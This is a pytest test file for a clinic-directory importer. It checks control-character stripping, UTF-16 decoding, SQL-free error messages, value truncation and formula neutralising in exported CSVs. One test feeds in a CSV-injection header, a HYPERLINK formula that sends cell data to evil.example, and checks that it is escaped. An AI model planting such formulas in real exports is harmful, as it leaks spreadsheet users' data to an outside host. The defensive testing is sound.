"""What is inside a file's text: control codes, UTF-16, formulas in a header, and failure
messages that never show SQL."""

from __future__ import annotations

import csv
import io
import json

import pytest
import sqlalchemy as sa

from locator.extensions import db
from locator.importers.files import decode_bytes
from locator.importers.report import rejected_rows_csv
from locator.importers.upsert import DirectoryUpsert
from locator.models import ImportRun
from tests.helpers.admin_imports import apply_preview, upload
from tests.helpers.forms import text
from tests.helpers.import_files import HEADER, csv_listings
from tests.helpers.importing import apply, center, codes_of


def test_nul_and_control_codes_past_the_first_8_kb_are_removed(importing, tmp_path):
    path = tmp_path / "listings.csv"
    filler = csv_listings(200)
    assert len(filler) > 8192
    path.write_text(
        filler + "Nul\x00 Clinic\x01 (Test),1 Elm\x1b St,Austin,TX,78701,SA\n"
        "Bell Clinic (Test)\x07\x7f,2 Elm St,Austin,TX,787\x0001,SA\n"
    )
    report = apply(path)
    assert report.counts["new"] == 202 and report.counts["rejected"] == 0
    assert center("Nul Clinic (Test)").street1 == "1 Elm St"
    assert center("Bell Clinic (Test)").zip == "78701"


def test_nul_is_removed_from_json_values_keys_and_service_labels(importing, tmp_path):
    path = tmp_path / "page.json"
    row = {"name1": "Json\u0000 Clinic (Test)", "state": "TX", "city": "Austin",
           "zip": "78701", "odd\u0000key": "x\u0000",
           "services": [{"f1": "Type of Care", "f3": "Detox\u0000; Zany\u0000 care"}]}  # fmt: skip
    path.write_text(json.dumps({"rows": [row, {"name2": "no name\u0000", "state": "TX"}]}))
    report = apply(path)
    assert report.counts["new"] == 1 and report.counts["rejected"] == 1
    assert "DT" in codes_of("Json Clinic (Test)")
    kept = json.dumps(db.session.get(ImportRun, report.run_id).rejected)
    assert "\\u0000" not in kept and "no name" in kept


def test_no_failure_message_shows_sql(admin_client, importing, synchronous, monkeypatch, tmp_path):
    def fail(self, batch):
        raise sa.exc.DataError(
            "INSERT INTO centers (name1) VALUES (%(name1)s)", {"name1": "x"}, ValueError("NUL")
        )

    assert upload(admin_client, "listings.csv", csv_listings(3).encode()).status_code == 303
    run_id = db.session.scalar(sa.select(sa.func.max(ImportRun.id)))
    monkeypatch.setattr(DirectoryUpsert, "handle", fail)
    applied = apply_preview(admin_client, run_id)
    assert applied.status_code == 303
    run = db.session.scalars(sa.select(ImportRun).order_by(ImportRun.id.desc())).first()
    assert run.status == "failed" and "an unexpected DataError" in run.error
    assert "INSERT" not in run.error and "centers" not in run.error
    assert "INSERT" not in text(admin_client.get(f"/admin/imports/{run.id}"))
    path = tmp_path / "listings.csv"
    path.write_text(csv_listings(3))
    result = admin_client.application.test_cli_runner().invoke(args=["import-centers", str(path)])
    assert result.exit_code == 1 and "an unexpected DataError" in result.output
    assert "INSERT" not in result.output


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("delimiter", ["\t", ","])
def test_utf16_csvs_with_a_bom_are_read(admin_client, importing, encoding, delimiter):
    bom = "\ufeff"
    content = (csv_listings(2) + "Peñasco Clínica (Test),1 Main,Peñasco,NM,87553,SA\n").replace(
        ",", delimiter
    )
    data = (bom + content.replace("\n", "\r\n")).encode(encoding)
    assert data[:2] in (b"\xff\xfe", b"\xfe\xff") and b"\x00" in data
    response = upload(admin_client, "unicode text.txt", data)
    page = text(admin_client.get(response.headers["Location"]))
    assert '<th scope="row">New</th><td>3</td>' in page, page[:3000]
    assert decode_bytes(data) == content.replace("\n", "\r\n")


def test_a_utf16_csv_is_applied(importing, tmp_path):
    path = tmp_path / "listings.txt"
    path.write_bytes(
        (HEADER + "\nTab Clinic (Test),1 A St,Austin,TX,78701,SA\n")
        .replace(",", "\t")
        .encode("utf-16")
    )  # fmt: skip (the codec writes the BOM)
    assert apply(path).counts["new"] == 1
    assert center("Tab Clinic (Test)").city == "Austin"


def test_the_rejected_rows_csv_neutralises_formulas_in_its_header(importing, tmp_path):
    path = tmp_path / "listings.csv"
    path.write_text(
        HEADER + ',=HYPERLINK("http://evil.example/?x="&A1;"open"),@SUM(1)\n'
        "Ok Clinic (Test),1 A St,Austin,TX,78701,SA,1,2\n"
        "Bad Clinic (Test),1 A St,Austin,ZZ,78701,SA,=1+1,3\n"
    )
    report = apply(path)
    assert report.counts["rejected"] == 1
    downloaded = rejected_rows_csv(db.session.get(ImportRun, report.run_id))
    header, row = list(csv.reader(io.StringIO(downloaded)))
    assert header[-2:] == ['\'=hyperlink("http://evil.example/?x="&a1;"open")', "'@sum(1)"]
    assert not any(cell[:1] in "=+-@" for cell in header + row if cell)


def test_values_longer_than_their_column_are_cut_with_a_warning(importing, tmp_path):
    path = tmp_path / "listings.csv"
    path.write_text(f"{HEADER}\nLong Street Clinic (Test),{'9' * 310} Elm St,Austin,TX,78701,SA\n")
    report = apply(path)
    assert report.counts["new"] == 1
    assert center("Long Street Clinic (Test)").street1 == "9" * 300  # the column's width
    assert any("street1 is longer than 300 characters; cut." in w for w in report.warnings)
